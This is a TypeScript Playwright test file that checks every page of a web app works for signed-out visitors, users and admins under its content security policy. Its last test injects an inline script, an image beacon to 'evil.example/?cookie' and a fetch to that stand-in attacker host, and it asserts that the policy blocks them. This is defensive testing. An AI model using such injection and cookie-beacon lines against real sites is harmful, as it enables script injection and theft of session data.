import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { ADMIN, rowOf, seen, USER, useSite } from './site.fixture';

const { site, open } = useSite();

/** An address, and what shows that its page works. */
type Pages = Readonly<Record<string, (page: Page) => Promise<void>>>;

const heading = (name: string) => (page: Page) => seen(page.getByRole('heading', { name, exact: true }));
const signingIn = heading('Sign in');

/** Asks the API from the page that explains it; `status` is what it answers. */
const asksFromDocs = (status: number) => async (page: Page) => {
  const operation = page.locator('.opblock-get:has([data-path="/api/users"])');
  await operation.getByRole('button').first().click();
  await operation.getByRole('button', { name: 'Try it out' }).click();
  await operation.getByRole('button', { name: 'Execute' }).click();
  const answered = operation.locator('.live-responses-table tbody .response-col_status').first();
  await expect.poll(() => answered.innerText(), { timeout: 10_000 }).toBe(String(status));
};

const forStrangers: Pages = {
  '/': signingIn,
  '/users': signingIn,
  '/account': signingIn,
  '/rooms': signingIn,
  '/sign-in': signingIn,
  '/sign-up': heading('Sign up'),
  '/forgot-password': heading('Forgot your password?'),
  '/reset-password#token=some': heading('Choose a password'),
  '/reset-password': (page) => seen(page.getByText('The link is incomplete.')),
  '/confirm-address#token=some': heading('Confirm your address'),
  '/elsewhere': (page) => seen(page.getByText('Nothing here')),
  '/docs': asksFromDocs(401),
};

const forUsers: Pages = {
  '/': (page) => seen(rowOf(page, USER.name)),
  '/users?q=demo': (page) => seen(rowOf(page, USER.name)),
  '/rooms': async (page) => {
    const name = `Lobby ${crypto.randomUUID()}`;
    await page.getByLabel('Name of a new room').fill(name);
    await page.getByRole('button', { name: 'Open a room' }).click();
    await heading(name)(page);
  },
  '/account': async (page) => {
    await seen(page.getByRole('list', { name: 'Sessions' }).getByText('This one'));
    await seen(page.getByRole('region', { name: 'API tokens' }).getByText('You have no tokens.'));
  },
  '/sign-in': (page) => seen(rowOf(page, USER.name)),
  '/sign-up': (page) => seen(rowOf(page, USER.name)),
  '/forgot-password': heading('Forgot your password?'),
  '/reset-password#token=some': heading('Choose a password'),
  '/confirm-address#token=some': heading('Confirm your address'),
  '/elsewhere': (page) => seen(page.getByText('Nothing here')),
  '/docs': asksFromDocs(200),
};

/** Goes to each page; what the policy of the page kept out, `open` notices. The result is what else went wrong. */
const visit = async (page: Page, pages: Pages): Promise<string[]> => {
  const errors: string[] = [];
  page.on('console', (message) => {
    if (message.type() === 'error') errors.push(`${page.url()}: ${message.text()}`);
  });
  for (const [address, works] of Object.entries(pages)) {
    // From one address to the same with another fragment no page is loaded.
    await page.goto('about:blank');
    await page.goto(site().url + address);
    await works(page);
  }
  return errors;
};

// Each page has its own patience; all of them one after the other take longer than other tests on a slow machine.
describe('every page works under the policy that it is served with', { timeout: 240_000 }, () => {
  it('for who is not signed in', async () => {
    const page = await open('/elsewhere', { as: null });
    // Swagger's page shows what it was answered, which the browser calls an error.
    const errors = await visit(page, forStrangers);
    expect(errors.filter((error) => !/\/docs\S*: .* 401 \(Unauthorized\)$/.test(error))).toEqual([]);
  });

  it.each([ADMIN, USER])('for $name', async (account) => {
    const page = await open('/elsewhere', { as: account });
    expect(await visit(page, forUsers)).toEqual([]);
    const id = await page.evaluate(async () => {
      const { user } = await (await fetch('/api/auth/get-session')).json();
      return String(user.id);
    });
    expect(await visit(page, { [`/users/${id}`]: (one) => seen(one.getByRole('dialog')) })).toEqual([]);
  });

  it('which keeps out what is put into it', async () => {
    const expected: string[] = [];
    const page = await open('/sign-in', { as: null, expected });
    await signingIn(page);
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.smuggled = true';
      const image = document.createElement('img');
      image.src = 'https://evil.example/?cookie';
      document.body.append(script, image);
      return fetch('https://evil.example/').catch(() => {});
    });
    expect(await page.evaluate(() => 'smuggled' in window)).toBe(false);
    for (const kept of [
      'script-src-elem kept out inline',
      'img-src kept out https',
      'connect-src kept out https',
    ])
      await expect.poll(() => expected.join()).toContain(kept);
  });
});
